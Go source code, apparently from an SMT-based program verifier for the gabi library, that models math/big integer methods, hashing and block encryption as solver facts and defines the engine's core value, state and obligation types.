		for _, i := range idx {
			fr.nilOb(b, src+fmt.Sprintf(":arg%d", i), arg(i), pos)
		}
	}
	ret := func() (Val, bool) { return Val{S: z, Typ: resT}, true }
	v := func(i int) string { return fr.bv(st, arg(i)) }
	switch m {
	case "Set":
		need(1)
		fr.setBV(st, z, v(1))
		return ret()
	case "SetInt64", "SetUint64":
		need()
		fr.setBV(st, z, arg(1))
		return ret()
	case "Add", "Sub":
		need(1, 2)
		op := map[string]string{"Add": "+", "Sub": "-"}[m]
		fr.setBV(st, z, sApp(op, v(1), v(2)))
		return ret()
	case "Mul":
		need(1, 2)
		fr.setBV(st, z, fr.mulTerm(fr.bigOperand(st, arg(1)), fr.bigOperand(st, arg(2))))
		return ret()
	case "Neg":
		need(1)
		fr.setBV(st, z, sApp("-", v(1)))
		return ret()
	case "Abs":
		need(1)
		fr.setBV(st, z, sApp("absI", v(1)))
		return ret()
	case "Mod", "Div", "Quo", "Rem":
		need(1, 2)
		fr.ob("div", src+":zero", b, sNot(sEq(v(2), "0")), pos)
		op := map[string]string{"Mod": "mod", "Div": "div", "Quo": "tdiv", "Rem": "trem"}[m]
		fr.setBV(st, z, fr.divTerm(op, fr.bigOperand(st, arg(1)), fr.bigOperand(st, arg(2))))
		return ret()
	case "Lsh":
		need(1)
		fr.setBV(st, z, sApp("*", v(1), fr.pow2(arg(2))))
		return ret()
	case "Rsh":
		need(1)
		fr.setBV(st, z, fr.divTerm("div", v(1), fr.pow2(arg(2))))
		return ret()
	case "Cmp":
		need(1)
		a, c := fr.bv(st, z), v(1)
		return Val{S: sIte(sApp("<", a, c), "(- 1)", sIte(sEq(a, c), "0", "1")), Typ: resT}, true
	case "CmpAbs":
		need(1)
		a, c := sApp("absI", fr.bv(st, z)), sApp("absI", v(1))
		return Val{S: sIte(sApp("<", a, c), "(- 1)", sIte(sEq(a, c), "0", "1")), Typ: resT}, true
	case "Sign":
		need()
		a := fr.bv(st, z)
		return Val{S: sIte(sApp("<", a, "0"), "(- 1)", sIte(sEq(a, "0"), "0", "1")), Typ: resT}, true
	case "BitLen":
		need()
		return Val{S: fr.bitlenOf(fr.bv(st, z)), Typ: resT}, true
	case "Int64":
		need()
		return Val{S: sApp("wrapI64", fr.bv(st, z)), Typ: resT}, true
	case "Uint64":
		need()
		return Val{S: sApp("wrapU64", sApp("absI", fr.bv(st, z))), Typ: resT}, true
	case "IsInt64":
		need()
		a := fr.bv(st, z)
		return Val{S: sAnd(sApp("<=", "(- 9223372036854775808)", a), sApp("<=", a, "9223372036854775807")), Typ: resT}, true
	case "IsUint64":
		need()
		a := fr.bv(st, z)
		return Val{S: sAnd(sApp("<=", "0", a), sApp("<=", a, "18446744073709551615")), Typ: resT}, true
	case "ProbablyPrime":
		need()
		return Val{S: sApp("isprime", fr.bv(st, z)), Typ: resT}, true
	case "Exp":
		// z.Exp(x, y, m)
		fr.nilOb(b, src, z, pos)
		fr.nilOb(b, src+":arg1", arg(1), pos)
		fr.nilOb(b, src+":arg2", arg(2), pos)
		x, y := v(1), v(2)
		mref := arg(3)
		mv := sIte(sEq(mref, "0"), "0", fr.bv(st, mref))
		am := sApp("absI", mv)
		pm := sApp("powmod", x, y, am)
		pinv := sApp("powmod", sApp("minv", x, am), sApp("-", y), am)
		// facts about powmod results
		fc.addFact("true", sImp(sNot(sEq(am, "0")), sAnd(sApp("<=", "0", pm), sApp("<", pm, am), sApp("<=", "0", pinv), sApp("<", pinv, am))))
		noinv := sAnd(sNot(sEq(am, "0")), sApp("<", y, "0"), sNot(sApp("hasinv", x, am)))
		// math/big (observed with go1.26.8) does not return the documented value for a negative base with a
		// negative exponent (Exp(-2,-1,7) = 4, not 3): the model promises nothing but the range in that case
		quirk := sApp("expquirk", x, y, am)
		if !fc.declSet["fun:expquirk"] {
			fc.declSet["fun:expquirk"] = true
			fc.decls = append(fc.decls, "(declare-fun expquirk (Int Int Int) Int)")
		}
		fc.addFact("true", sImp(sNot(sEq(am, "0")), sAnd(sApp("<=", "0", quirk), sApp("<", quirk, am))))
		val := sIte(sEq(am, "0"), sIte(sApp("<=", y, "0"), "1", sApp("ipow", x, y)),
			sIte(sApp(">=", y, "0"), pm, sIte(sApp("<", x, "0"), quirk, pinv)))
		cur := fr.bv(st, z)
		fr.setBV(st, z, sIte(noinv, sIte(sEq(am, "1"), "0", cur), val))
		// Go: for |m| == 1 the result is 0 before the inverse is attempted
		res := fc.freshConst("expres", "Int")
		fc.aliasRef(res, z)
		fc.addFact("true", sEq(res, sIte(sAnd(noinv, sNot(sEq(am, "1"))), "0", z)))
		return Val{S: res, Typ: resT}, true
	case "ModInverse":
		need(1, 2)
		g, n := v(1), v(2)
		an := sApp("absI", n)
		has := sApp("hasinv", g, an)
		inv := sApp("minv", g, an)
		fc.addFact("true", sImp(sAnd(has, sApp(">", an, "1")), sAnd(sApp("<", "0", inv), sApp("<", inv, an))))
		cur := fr.bv(st, z)
		fr.ob("div", src+":zero", b, sNot(sEq(n, "0")), pos)
		fr.setBV(st, z, sIte(has, inv, cur))
		res := fc.freshConst("invres", "Int")
		fc.aliasRef(res, z)
		fc.addFact("true", sEq(res, sIte(has, z, "0")))
		return Val{S: res, Typ: resT}, true
	case "GCD":
		// z.GCD(x, y, a, b): x, y may be nil
		fr.nilOb(b, src, z, pos)
		fr.nilOb(b, src+":arg3", arg(3), pos)
		fr.nilOb(b, src+":arg4", arg(4), pos)
		a, bb := v(3), v(4)
		g := sApp("gcdf", a, bb)
		cx := fc.freshConst("bezout_x", "Int")
		cy := fc.freshConst("bezout_y", "Int")
		fc.addFact("true", sAnd(sApp(">=", g, "0"), sEq(sApp("+", sApp("*", a, cx), sApp("*", bb, cy)), g),
			sImp(sOr(sNot(sEq(a, "0")), sNot(sEq(bb, "0"))), sApp(">", g, "0"))))
		// the cofactors of the extended Euclidean algorithm are bounded by the other operand
		fr.trust("math/big.Int.GCD: the Bezout coefficients satisfy |x| <= |b| and |y| <= |a| (extended Euclidean algorithm; not stated in the package documentation)")
		fc.addFact("true", sImp(sAnd(sNot(sEq(a, "0")), sNot(sEq(bb, "0"))), sAnd(sApp("<=", sApp("absI", cx), sApp("absI", bb)), sApp("<=", sApp("absI", cy), sApp("absI", a)))))
		// write x, y when non-nil, then z (z last, as in math/big when aliased the result wins)
		xr, yr := arg(1), arg(2)
		curBV := fc.get(st, hBV)
		nb := sIte(sEq(xr, "0"), curBV, sStore(curBV, xr, cx))
		nb = sIte(sEq(yr, "0"), nb, sStore(nb, yr, cy))
		nb = sStore(nb, z, g)
		fr.checkLoopWrite(hBV, z)
		fc.logWrite(hBV, xr)
		fc.logWrite(hBV, yr)
		fc.logWrite(hBV, z)
		fc.setDef(st, "true", hBV, nb)
		return ret()
	case "And", "Or", "Xor", "AndNot":
		need(1, 2)
		f := map[string]string{"And": "bigand", "Or": "bigor", "Xor": "bigxor", "AndNot": "bigand"}[m]
		y := v(2)
		if m == "AndNot" {
			y = sApp("bignot", y)
		}
		r := sApp(f, v(1), y)
		if m == "And" {
			fc.addFact("true", sImp(sAnd(sApp(">=", v(1), "0"), sApp(">=", v(2), "0")), sAnd(sApp("<=", "0", r), sApp("<=", r, v(1)), sApp("<=", r, v(2)))))
			// a mask of the form 2^k - 1 (recognised by y + 1 == 2^bitlen(y)) keeps the low k bits: x & y == x mod (y + 1)
			yy := v(2)
			fc.addFact("true", sImp(sAnd(sApp(">=", v(1), "0"), sApp(">=", yy, "0"), sEq(sApp("+", yy, "1"), fr.pow2(fr.bitlenOf(yy)))),
				sEq(r, fr.divTerm("mod", v(1), sApp("+", yy, "1")))))
		}
		if m == "Xor" || m == "Or" {
			fc.addFact("true", sImp(sAnd(sApp(">=", v(1), "0"), sApp(">=", v(2), "0")), sApp("<=", "0", r)))
		}
		fr.setBV(st, z, r)
		return ret()
	case "Not":
		need(1)
		fr.setBV(st, z, sApp("-", sApp("-", v(1)), "1"))
		return ret()
	case "Sqrt":
		need(1)
		fr.ob("panic", src+":negative", b, sApp(">=", v(1), "0"), pos)
		r := sApp("isqrt", v(1))
		fc.addFact("true", sAnd(sApp(">=", r, "0"), sApp("<=", sApp("*", r, r), v(1)), sApp("<", v(1), sApp("*", sApp("+", r, "1"), sApp("+", r, "1")))))
		fr.setBV(st, z, r)
		return ret()
	case "ModSqrt":
		need(1, 2)
		ok := fc.freshConst("modsqrt_ok", "Bool")
		r := fc.freshConst("modsqrt", "Int")
		cur := fr.bv(st, z)
		fr.setBV(st, z, sIte(ok, r, cur))
		res := fc.freshConst("modsqrtres", "Int")
		fc.aliasRef(res, z)
		fc.addFact("true", sEq(res, sIte(ok, z, "0")))
		return Val{S: res, Typ: resT}, true
	case "Bit":
		need()
		r := sApp("bigbit", fr.bv(st, z), arg(1))
		fc.addFact("true", sAnd(sApp("<=", "0", r), sApp("<=", r, "1")))
		fc.addFact("true", sImp(sEq(arg(1), "0"), sEq(r, sApp("mod", fr.bv(st, z), "2"))))
		return Val{S: r, Typ: resT}, true
	case "SetBit":
		need(1)
		fr.setBV(st, z, fc.freshConst("setbit", "Int"))
		return ret()
	case "Bytes":
		need()
		x := fr.bv(st, z)
		ln := sApp("bytelen", sApp("absI", x))
		fc.addFact("true", sApp(">=", ln, "0"))
		out := fr.newSliceFresh(st, types.Typ[types.Uint8], ln, resT, "bytes")
		fr.specNative("i2osp")
		fc.addFact("true", sAnd(sEq(fr.bseqOf(st, out), sApp("u_i2osp", sApp("absI", x))), sEq(sApp("os2ip", sApp("u_i2osp", sApp("absI", x))), sApp("absI", x))))
		return out, true
	case "SetBytes":
		need()
		r := sApp("os2ip", fr.bseqOf(st, args[1]))
		fc.addFact("true", sApp(">=", r, "0"))
		// an unsigned big-endian number of n bytes is below 2^(8n)
		ln := sApp("sl_len", fr.scalar(args[1]))
		if n, ok := fc.knownLen[fr.scalar(args[1])]; ok && n >= 0 && n < 1024 {
			fc.addFact("true", sApp("<", r, pow2Const(8*n)))
		} else {
			fc.addFact("true", sApp("<", r, fr.pow2(sApp("*", "8", ln))))
		}
		fr.setBV(st, z, r)
		return ret()
	case "String", "Text":
		need()
		if !fc.declSet["fun:bigstr"] {
			fc.declSet["fun:bigstr"] = true
			fc.decls = append(fc.decls, "(declare-fun bigstr (Int Int) Int)")
		}
		base := "10"
		if m == "Text" {
			base = arg(1)
		}
		return Val{S: sApp("bigstr", fr.bv(st, z), base), Typ: resT}, true
	case "SetString":
		need()
		if !fc.declSet["fun:strnum"] {
			fc.declSet["fun:strnum"] = true
			fc.decls = append(fc.decls, "(declare-fun strnum (Int Int) Int)")
			fc.decls = append(fc.decls, "(declare-fun strnumok (Int Int) Bool)")
		}
		ok := sApp("strnumok", arg(1), arg(2))
		cur := fr.bv(st, z)
		// on failure the value of z is undefined
		fr.setBV(st, z, sIte(ok, sApp("strnum", arg(1), arg(2)), fc.freshConst("undef", "Int")))
		_ = cur
		res := fc.freshConst("setstr", "Int")
		fc.addFact("true", sEq(res, sIte(ok, z, "0")))
		return Val{IsAg: true, Typ: resT, Agg: []Val{{S: res, Typ: args[0].Typ}, {S: ok, Typ: types.Typ[types.Bool]}}}, true
	case "Append", "Format", "Bits", "SetBits", "MulRange", "Binomial", "Rand", "DivMod", "QuoRem", "TrailingZeroBits", "FillBytes", "Float64", "IsInt64_":
		need()
		if m == "SetBits" || m == "MulRange" || m == "Binomial" || m == "Rand" || m == "DivMod" || m == "QuoRem" {
			fr.setBV(st, z, fc.freshConst("bigunk", "Int"))
			if m == "DivMod" || m == "QuoRem" {
				fr.nilOb(b, src+":arg3", arg(3), pos)
				fr.setBV(st, arg(3), fc.freshConst("bigunk", "Int"))
			}
		}
		res := fr.havocVal(resT, "big_"+m)
		if !res.IsAg && types.Identical(resT, args[0].Typ) {
			res.S = z
		}
		if res.IsAg && len(res.Agg) == 2 && (m == "DivMod" || m == "QuoRem") {
			res.Agg[0].S = z
			res.Agg[1].S = arg(3)
		}
		return res, true
	}
	return Val{}, false
}

// nativeInvoke: interface method calls with native models (io.Reader etc.)
func (fr *Frame) nativeInvoke(b *ssa.BasicBlock, st *State, it types.Type, m *types.Func, recv Val, args []Val, resT types.Type, pos token.Pos) (Val, bool) {
	fc := fr.fc
	full := typeKey(it) + "." + m.Name()
	switch full {
	case "error.Error":
		fr.trust("error.Error: pure")
		return fr.havocVal(resT, "errstr"), true
	case "hash.Hash.Write":
		fr.trust("hash.Hash.Write: appends the bytes to the hash input; never fails")
		fc.regVar("HS", arrSort("Int"))
		fr.specNative("bcat")
		fr.specNative("bempty")
		h := sApp("ipay", fr.scalar(recv))
		cur := fc.rd(st, "HS", h)
		data := fr.bseqOf(st, args[0])
		fc.addFact("true", sEq(sApp("u_bcat", "u_bempty", data), data))
		fr.wr1(st, "HS", h, sApp("u_bcat", cur, data))
		return Val{IsAg: true, Typ: resT, Agg: []Val{{S: sApp("sl_len", fr.scalar(args[0])), Typ: types.Typ[types.Int]}, {S: "0", Typ: resT.(*types.Tuple).At(1).Type()}}}, true
	case "hash.Hash.Sum":
		fr.trust("hash.Hash.Sum(nil): fresh 32-byte slice holding sha256 of the input written so far")
		fc.regVar("HS", arrSort("Int"))
		h := sApp("ipay", fr.scalar(recv))
		cur := fc.rd(st, "HS", h)
		if fr.scalar(args[0]) != "0" {
			fc.assumptions["hash.Hash.Sum with a non-nil prefix: result content not modelled"] = true
			return fr.newSliceFresh(st, types.Typ[types.Uint8], fc.freshConst("sumlen", "Int"), resT, "sum"), true
		}
		out := fr.newSliceFresh(st, types.Typ[types.Uint8], "32", resT, "sum")
		fc.addFact("true", sEq(fr.bseqOf(st, out), sApp("sha256", cur)))
		return out, true
	case "io.Reader.Read", "io.Writer.Write":
		fr.trust(full + ": writes at most the given buffer (Read) / nothing visible (Write); returns 0 <= n <= len")
		if m.Name() == "Read" {
			fr.havocReach(st, args[0])
		}
		res := fr.havocVal(resT, "io")
		fr.assume(b, fr.typeFacts(res, st))
		if res.IsAg && len(res.Agg) > 0 {
			fr.assume(b, sAnd(sApp("<=", "0", res.Agg[0].S), sApp("<=", res.Agg[0].S, sApp("sl_len", fr.scalar(args[0])))))
		}
		return res, true
	case "crypto/cipher.Block.Encrypt":
		fr.trust("cipher.Block.Encrypt(dst, src): writes dst[0:16]; panics if len(dst) < 16 or len(src) < 16")
		fr.ob("panic", fr.src(pos, "Encrypt")+":dst", b, sApp(">=", sApp("sl_len", fr.scalar(args[0])), "16"), pos)
		fr.ob("panic", fr.src(pos, "Encrypt")+":src", b, sApp(">=", sApp("sl_len", fr.scalar(args[1])), "16"), pos)
		fc.encrypts = append(fc.encrypts, encryptRec{guard: fr.reach[b.Index], src: fr.bseqOf(st, args[1]), srcSlice: fr.scalar(args[1]), state: st.clone()})
		fr.havocReach(st, args[0])
		return Val{IsAg: true, Typ: resT}, true
	}
	return Val{}, false
}

// functions shared between native models and the contract language (uninterpreted)
var specNatives = map[string]struct {
	n   int
	isB bool
}{
	"bcat": {2, false}, "be64": {1, false}, "le64": {1, false}, "i2osp": {1, false}, "mhsum": {2, false}, "mhcode": {1, false}, "mhlen": {1, false}, "mhok": {1, true}, "mhsupported": {1, true},
	"asn1ok": {1, true}, "asn1R": {1, false}, "asn1S": {1, false}, "asn1rest": {1, false}, "ecdsaok": {4, true},
	"cborok": {1, true}, "cbormsg": {1, false}, "cborsig": {1, false}, "cborval": {1, false}, "b64": {1, false}, "unb64": {1, false}, "unb64ok": {1, true},
	"der": {2, false}, "dercode": {2, false}, "jsonok": {1, true}, "bempty": {0, false},
}

func (fr *Frame) specNative(name string) {
	sn := specNatives[name]
	res := "Int"
	if sn.isB {
		res = "Bool"
	}
	fr.declUninterp(name, sn.n, res)
}

type encryptRec struct {
	guard    string
	src      string
	srcSlice string
	state    *State
}

// ifaceTarget: for an interface value built by MakeInterface from a pointer, return payload term and its static type
func (fr *Frame) ifaceTarget(v Val) (string, types.Type) {
	s := fr.scalar(v)
	if !strings.HasPrefix(s, "(mkiface ") {
		return "", nil
	}
	rest := strings.TrimPrefix(s, "(mkiface ")
	i := strings.Index(rest, " ")
	if i < 0 {
		return "", nil
	}
	var tag int
	fmt.Sscanf(rest[:i], "%d", &tag)
	if tag <= 0 || tag > len(fr.fc.eng.tagTypes) {
		return "", nil
	}
	pay := strings.TrimSuffix(rest[i+1:], ")")
	return pay, fr.fc.eng.tagTypes[tag-1]
}

// havocAnyFields: havoc row r in every field heap known so far (destination of unknown struct type)
func (fr *Frame) havocAnyFields(st *State, r string) {
	fc := fr.fc
	for _, name := range sortedKeys(fc.varSort) {
		sort := fc.varSort[name]
		if strings.HasPrefix(name, "F:") {
			inner := strings.TrimSuffix(strings.TrimPrefix(sort, "(Array Int "), ")")
			hv := fc.freshConst("hv", inner)
			fr.wr1(st, name, r, hv)
			fc.pendingVals = append(fc.pendingVals, Val{S: hv, Typ: heapValType[name]})
		}
	}
}

// bigOperand: value of a big.Int operand; a literal when the object was just created by NewInt(<literal>)
func (fr *Frame) bigOperand(st *State, ref string) string {
	if lit, ok := fr.fc.knownBig[ref]; ok {
		return lit
	}
	return fr.bv(st, ref)
}

// mulTerm: products of two non-literal terms are abstracted by the uninterpreted mulI unless the contract
// asks for nonlinear arithmetic (keeps irrelevant products from dragging the solver into NIA)
func (fr *Frame) mulTerm(a, b string) string {
	_, na := numeral(a)
	_, nb := numeral(b)
	if na || nb || strings.HasPrefix(a, "(- ") && len(a) < 30 || fr.fc.nonlinear {
		return sApp("*", a, b)
	}
	fc := fr.fc
	if !fc.declSet["fun:mulI"] {
		fc.declSet["fun:mulI"] = true
		fc.decls = append(fc.decls, "(declare-fun mulI (Int Int) Int)")
	}
	return sApp("mulI", a, b)
}

// divTerm: division / remainder by a non-literal divisor is abstracted (uninterpreted function with the range
// facts of the remainder) unless the contract asks for nonlinear arithmetic
func (fr *Frame) divTerm(op, a, b string) string {
	fc := fr.fc
	if _, ok := numeral(b); ok || fc.nonlinear {
		return sApp(op, a, b)
	}
	fn := op + "I"
	if !fc.declSet["fun:"+fn] {
		fc.declSet["fun:"+fn] = true
		fc.decls = append(fc.decls, fmt.Sprintf("(declare-fun %s (Int Int) Int)", fn))
	}
	t := sApp(fn, a, b)
	if op == "mod" && !reBoundVar.MatchString(t) && !fc.declSet["divfact:"+t] {
		fc.declSet["divfact:"+t] = true
		fc.permFact(sImp(sNot(sEq(b, "0")), sAnd(sApp("<=", "0", t), sApp("<", t, sApp("absI", b)))))
	}
	return t
}
