package main

import (
	"fmt"
	"go/ast"
	"go/constant"
	"go/printer"
	"go/token"
	"go/types"
	"math/big"
	"os"
	"regexp"
	"runtime/debug"
	"sort"
	"strings"
	"sync"

	"golang.org/x/tools/go/packages"
	"golang.org/x/tools/go/ssa"
)

// ---------------------------------------------------------------------------
// Values

type LocKind int

const (
	LNone    LocKind = iota
	LObj             // pointer to an object (struct, big.Int, box, array) with ref term S; Path = flattened prefix
	LField           // pointer to a scalar field: Heap[Base]
	LElem            // pointer to a slice/array element: Heap[Base][Idx]
	LGlobal          // pointer to a package-level scalar variable: Heap (scalar var)
	LElemObj         // pointer to a struct-typed slice element: fields live in EF:<type><path>[Base][Idx]
)

type Loc struct {
	Kind LocKind
	Base string     // ref term
	Idx  string     // element index
	Heap string     // heap variable name
	Root types.Type // root struct type for flattened paths (LObj)
	Path string     // flattened path ("" or ".A.B")
	Elem types.Type // pointee type
	// for LElem: slice bounds for the index obligation are checked at IndexAddr time
}

type Val struct {
	S    string // scalar SMT term
	Typ  types.Type
	Agg  []Val // aggregate (struct value / tuple)
	IsAg bool
	Loc  *Loc
}

func (v Val) String() string {
	if v.IsAg {
		var p []string
		for _, a := range v.Agg {
			p = append(p, a.String())
		}
		return "{" + strings.Join(p, ",") + "}"
	}
	return v.S
}

// ---------------------------------------------------------------------------
// State

type State struct {
	vars map[string]string
}

func (s *State) clone() *State {
	n := &State{vars: make(map[string]string, len(s.vars))}
	for k, v := range s.vars {
		n.vars[k] = v
	}
	return n
}

// ---------------------------------------------------------------------------
// Obligations and facts

type Fact struct {
	Guard  string
	Term   string
	Class  string // "" = always included; "closed" = heap closedness axiom (dropped in the lite variant)
	Quants []QInst
}

type Obligation struct {
	Name       string
	Kind       string
	Func       string
	Props      []string
	Guard      string
	Goal       string
	NFacts     int // number of facts in context
	Pos        string
	Src        string
	MustFail   bool
	Cover      bool // cover query: expected sat
	Restricted bool // cover query of a contract marked `restricted`
	Skolems    []string
	fullOnly   bool
	NCands     int
	Block      *ssa.BasicBlock
	fc         *FnCtx
	Result     *SolverResult
	All        []SolverResult
	File       string
}

type FnCtx struct {
	eng                                        *Engine
	fn                                         *ssa.Function
	contract                                   *Contract
	decls                                      []string
	declSet                                    map[string]bool
	varSort                                    map[string]string
	facts                                      []Fact
	obls                                       []*Obligation
	counter                                    int
	nameCnt                                    map[string]int
	pow2Args                                   []string
	errors                                     []string // unsupported constructs
	init                                       *State   // initial state (empty: all vars at !0)
	assumptions                                map[string]bool
	depth                                      int
	trusted                                    map[string]bool
	closures                                   map[string]*ssa.MakeClosure
	boxed                                      map[string]Val
	iters                                      map[string]*ssa.Range
	knownLen                                   map[string]int64
	pendingAxioms                              map[string]*Axiom
	nReqFacts                                  int
	qcount                                     int
	havocAllUsed                               bool
	lastMarshal                                *marshalInfo
	encrypts                                   []encryptRec
	pendingClosed                              [][2]string
	closedDecls                                []string
	cands                                      []string
	sliceLows                                  []string // symbolic lower bounds of reslicing expressions (indices into the base are lo+i)
	foldTerms                                  map[string][]foldRec
	recording                                  *[]string                  // when set, heap variables read are recorded here
	localRefs                                  map[string]bool            // objects allocated by this function that have not escaped (never stored, passed or returned)
	reachBlock                                 map[string]*ssa.BasicBlock // reach term of a top-level block -> block
	ancCache                                   map[*ssa.BasicBlock]map[*ssa.BasicBlock]bool
	candBlock                                  map[string]*ssa.BasicBlock
	curBlock                                   *ssa.BasicBlock // block being executed in the top-level frame
	appendLens                                 []string
	lastFoldHeaps, lastFoldSorts, lastFoldArgs []string
	lastFoldElemAt                             func(string) string
	abbrev                                     map[string]string      // large integer terms of predicates -> the constant naming them
	usedAlias                                  map[string]string      // contract identifier -> current name of the renamed local it was resolved to
	refAlias                                   map[string]string      // constant naming a native result -> the reference term it may be equal to
	noAux                                      bool                   // do not emit the defining facts of pow2 / bitlen terms (elements of folds at witness positions)
	mapIters                                   map[string]mapIterInfo // map iterators: the map they range over and its key set at that moment
	hasMixedQuant                              bool                   // some quantified variable is used both as a position and as a map key
	storeRef                                   map[string]string      // heap version defined as (store parent ref v) -> ref
	mergeConst                                 map[string]bool        // heap versions defined as a merge (ite) of their parents
	declStamp                                  map[int]int
	stampFloor                                 int
	candKind                                   map[string]int
	skKind                                     map[string]int
	appendOffs                                 []string
	heapAlloc                                  map[string]string // heap version -> allocation counter when it was created
	closedNoted                                map[string]bool
	knownBig                                   map[string]string
	nonlinear                                  bool
	frames                                     map[string]frameInfo
	parents                                    map[string][]string
	noted                                      map[string]bool
	candSet                                    map[string]bool
	pendingVals                                []Val
	pendingRows                                [][2]string
}

type Engine struct {
	prog        *ssa.Program
	pkgs        []*packages.Package
	ssaPkgs     map[string]*ssa.Package
	cs          *ContractSet
	typeTags    map[string]int
	tagTypes    []types.Type
	strLits     map[string]int
	fset        *token.FileSet
	repoPrefix  string
	fnContract  map[*ssa.Function]*Contract
	trustedUsed map[string]bool
	mathBig     types.Type
	// source variables of each function under contract on the accepted tree, in declaration order
	acceptedLocals map[string][]string
}

func (fc *FnCtx) fresh(prefix string) string {
	fc.counter++
	return fmt.Sprintf("%s!%d", prefix, fc.counter)
}

func (fc *FnCtx) declare(name, sort string) string {
	s := sym(name)
	if !fc.declSet[s] {
		fc.declSet[s] = true
		fc.decls = append(fc.decls, fmt.Sprintf("(declare-fun %s () %s)", s, sort))
	}
	return s
}

func (fc *FnCtx) freshConst(prefix, sort string) string {
	return fc.declare(fc.fresh(prefix), sort)
}

func (fc *FnCtx) addFact(guard, term string) {
	if term == "true" || term == guard {
		return
	}
	fc.facts = append(fc.facts, Fact{Guard: guard, Term: term})
}

func (fc *FnCtx) addFactQ(guard, term string, qs []QInst) {
	if term == "true" || term == guard {
		return
	}
	// a conjunction is recorded conjunct by conjunct: the generator instantiates a quantified hypothesis by
	// repeating the fact it occurs in, and a fact that is the conjunction of all invariants of a loop makes every
	// instance carry all of them
	if len(qs) > 0 && strings.HasPrefix(term, "(and ") {
		if parts := splitSexpr(term); len(parts) > 2 && parts[0] == "and" {
			for _, c := range parts[1:] {
				var cq []QInst
				for _, q := range qs {
					if strings.Contains(c, q.Forall) {
						cq = append(cq, q)
					}
				}
				fc.addFactQ(guard, c, cq)
			}
			return
		}
	}
	// (=> A (and B C)) is recorded as (=> A B) and (=> A C) for the same reason
	if len(qs) > 0 && strings.HasPrefix(term, "(=> ") {
		if parts := splitSexpr(term); len(parts) == 3 && strings.HasPrefix(parts[2], "(and ") {
			if cs := splitSexpr(parts[2]); len(cs) > 2 && cs[0] == "and" {
				for _, c := range cs[1:] {
					var cq []QInst
					for _, q := range qs {
						if strings.Contains(c, q.Forall) {
							cq = append(cq, q)
						}
					}
					fc.addFactQ(guard, sImp(parts[1], c), cq)
				}
				return
			}
		}
	}
	fc.facts = append(fc.facts, Fact{Guard: guard, Term: term, Quants: qs})
}

// candidate kinds: positions in sequences, keys of maps. A quantifier over a range is instantiated at
// positions, one over dom(m) at keys; terms of unknown kind (0) go to both.
const (
	kIdx = 1
	kKey = 2
)

// addCand registers a ground term at which quantified hypotheses get instantiated
func (fc *FnCtx) addCand(t string) { fc.addCandK(t, kIdx) }

func (fc *FnCtx) addCandK(t string, kind int) {
	if fc.candSet == nil {
		fc.candSet = map[string]bool{}
		fc.candBlock = map[string]*ssa.BasicBlock{}
	}
	if fc.candKind == nil {
		fc.candKind = map[string]int{}
	}
	if len(t) > 200 {
		return
	}
	fc.candKind[t] |= kind
	if fc.candSet[t] {
		return
	}
	fc.candSet[t] = true
	fc.cands = append(fc.cands, t)
	fc.candBlock[t] = fc.curBlock
}

// permFact asserts a definitional / ground fact that holds independently of the program point
// (it survives the roll-back of loop dry runs)
func (fc *FnCtx) permFact(term string) {
	if term == "true" {
		return
	}
	// the fact is stamped with the number of path facts that existed when it was created: an obligation raised
	// earlier cannot need it (all terms of the obligation existed before). Inside a loop dry run, whose path
	// facts are rolled back, the stamp is that of the loop entry.
	stamp := len(fc.facts)
	if fc.stampFloor >= 0 && fc.stampFloor < stamp {
		stamp = fc.stampFloor
	}
	if fc.declStamp == nil {
		fc.declStamp = map[int]int{}
	}
	fc.declStamp[len(fc.decls)] = stamp
	fc.decls = append(fc.decls, "(assert "+term+")")
}

func (fc *FnCtx) unsupported(format string, args ...interface{}) {
	msg := fmt.Sprintf(format, args...)
	for _, e := range fc.errors {
		if e == msg {
			return
		}
	}
	fc.errors = append(fc.errors, msg)
}

// splitGoal breaks (and a b) and (=> p (and a b)) into separate goals
func splitGoal(goal string) []string {
	args := splitSexpr(goal)
	if len(args) >= 3 && args[0] == "and" {
		var out []string
		for _, a := range args[1:] {
			out = append(out, splitGoal(a)...)
		}
		return out
	}
	if len(args) == 3 && args[0] == "=>" {
		parts := splitGoal(args[2])
		if len(parts) > 1 {
			var out []string
			for _, p := range parts {
				out = append(out, sImp(args[1], p))
			}
			return out
		}
	}
	return []string{goal}
}

// obligeSplit emits one obligation per conjunct; the first obligation is returned
func (fc *FnCtx) obligeSplit(kind, what, guard, goal string, pos token.Pos, props []string, keepFact bool, sks []string) []*Obligation {
	parts := splitGoal(goal)
	var out []*Obligation
	for i, p := range parts {
		w := what
		if len(parts) > 1 {
			w = fmt.Sprintf("%s.%d", what, i+1)
		}
		o := fc.oblige(kind, w, guard, p, pos, props)
		if o != nil {
			if !keepFact {
				fc.facts = fc.facts[:len(fc.facts)-1]
			}
			o.Skolems = sks
			out = append(out, o)
		}
	}
	return out
}

func (fc *FnCtx) oblige(kind, what, guard, goal string, pos token.Pos, props []string) *Obligation {
	if goal == "true" {
		return nil
	}
	base := kind + ":" + what
	fc.nameCnt[base]++
	name := base
	if n := fc.nameCnt[base]; n > 1 {
		name = fmt.Sprintf("%s#%d", base, n)
	}
	o := &Obligation{Name: name, Kind: kind, Func: fc.fnName(), Guard: guard, Goal: goal, NFacts: len(fc.facts), fc: fc, Props: props, NCands: len(fc.cands), Block: fc.curBlock}
	if pos.IsValid() {
		p := fc.eng.fset.Position(pos)
		o.Pos = fmt.Sprintf("%s:%d", p.Filename, p.Line)
	}
	fc.obls = append(fc.obls, o)
	// after the check, the asserted condition may be assumed
	fc.addFact(guard, goal)
	return o
}

func (fc *FnCtx) fnName() string {
	return shortFn(fc.fn)
}

func shortFn(fn *ssa.Function) string {
	s := fn.String()
	s = strings.ReplaceAll(s, "github.com/privacybydesign/gabi/", "")
	s = strings.ReplaceAll(s, "github.com/privacybydesign/gabi.", "gabi.")
	s = strings.ReplaceAll(s, "(*gabi.", "(*")
	s = strings.TrimPrefix(s, "gabi.")
	return s
}

// ---------------------------------------------------------------------------
// Types

func isBigInt(t types.Type) bool {
	n, ok := types.Unalias(t).(*types.Named)
	if !ok {
		return false
	}
	o := n.Obj()
	if o.Pkg() == nil || o.Name() != "Int" {
		return false
	}
	p := o.Pkg().Path()
	return p == "math/big" || strings.HasSuffix(p, "gabi/big")
}

func isBoolType(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && b.Info()&types.IsBoolean != 0
}

func sortOf(t types.Type) string {
	if isBoolType(t) {
		return "Bool"
	}
	return "Int"
}

func isAggType(t types.Type) bool {
	if isBigInt(t) {
		return false
	}
	switch t.Underlying().(type) {
	case *types.Struct, *types.Tuple:
		return true
	}
	return false
}

func typeKey(t types.Type) string {
	s := types.TypeString(t, nil)
